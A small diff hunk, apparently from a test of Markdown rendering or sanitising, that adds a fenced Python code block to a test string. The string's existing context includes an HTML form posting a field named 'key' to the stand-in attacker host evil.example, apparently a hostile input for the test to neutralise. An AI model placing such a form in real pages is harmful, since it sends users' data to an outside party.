@@ -40,6 +40,11 @@ TEXT = """# Title
 - `two`
 
 <form action="https://evil.example/"><input name="key"></form>
+
+~~~python
+first
+  second
+~~~
 """
 
 
